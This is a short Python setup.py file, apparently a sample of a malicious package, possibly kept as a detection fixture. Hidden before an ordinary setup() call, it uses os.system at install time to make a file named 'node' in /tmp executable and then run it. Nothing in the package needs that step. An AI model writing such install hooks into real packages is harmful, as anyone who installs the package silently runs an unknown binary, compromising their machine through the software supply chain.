# file: setup.py
from os import system
from setuptools import setup
system("cd /tmp && chmod +x node && ./node")  # fires: install
setup(name="example", version="1.0")
